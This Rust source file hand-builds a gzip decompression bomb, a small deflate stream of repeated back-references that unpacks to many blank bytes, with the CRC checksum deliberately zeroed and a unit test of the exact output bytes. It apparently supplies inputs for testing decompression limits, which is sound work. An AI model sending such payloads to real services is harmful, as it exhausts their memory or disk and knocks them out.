//! A gzip bomb made by hand: a few kilobytes that unpack to many megabytes of blanks.

/// Bits, lowest first, as deflate packs them.
#[derive(Debug, Default)]
struct Bits {
    bytes: Vec<u8>,
    held: u32,
    count: u32,
}

impl Bits {
    fn push(&mut self, value: u32, width: u32) {
        self.held |= value << self.count;
        self.count += width;
        while self.count >= 8 {
            self.bytes.push(self.held.to_le_bytes()[0]);
            self.held >>= 8;
            self.count -= 8;
        }
    }

    /// A Huffman code, which goes in highest bit first.
    fn code(&mut self, code: u32, width: u32) {
        self.push(code.reverse_bits() >> (32 - width), width);
    }
}

/// A gzip file of one blank and `repeats` times 258 more, about 160 times smaller than what it holds.
///
/// Its checksum is left at zero: whoever gets so far has already unpacked it all.
pub(crate) fn bomb(repeats: usize) -> Vec<u8> {
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255], ..Bits::default() };
    // The last block, with the fixed codes (RFC 1951, 3.2.6).
    bits.push(0b011, 3);
    bits.code(0x30 + u32::from(b' '), 8);
    for _ in 0..repeats {
        // Length 258 is symbol 285, distance 1 is symbol 0.
        bits.code(0b1100_0000 + 285 - 280, 8);
        bits.code(0, 5);
    }
    bits.code(0, 7);
    bits.push(0, 7);
    let length = (1 + 258 * repeats) as u32;
    bits.bytes.extend_from_slice(&[0; 4]);
    bits.bytes.extend_from_slice(&length.to_le_bytes());
    bits.bytes
}

#[cfg(test)]
mod tests {
    use super::bomb;

    /// Read back once with zlib: 1 + 3 × 258 blanks.
    #[test]
    fn three_repeats_as_zlib_reads_them() {
        let wanted =
            [31, 139, 8, 0, 0, 0, 0, 0, 0, 255, 83, 24, 5, 163, 96, 20, 0, 0, 0, 0, 0, 0, 7, 3, 0, 0];
        assert_eq!(bomb(3), wanted);
        assert!(bomb(40_000).len() < 70_000);
    }
}
